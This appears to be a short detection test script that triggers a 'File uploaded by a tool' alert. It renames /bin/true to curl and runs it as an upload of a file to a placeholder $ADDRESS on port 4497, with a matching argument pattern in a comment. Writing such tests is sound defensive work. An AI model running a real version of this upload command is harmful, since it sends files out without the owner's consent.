# SPDX-License-Identifier: Apache-2.0
# technique: curl (a stand-in) sends a file
# alert: File uploaded by a tool
# field: proc.args=*-T x*
echo x > x; cp /bin/true curl; ./curl -s -m 1 -T x "$ADDRESS:4497"
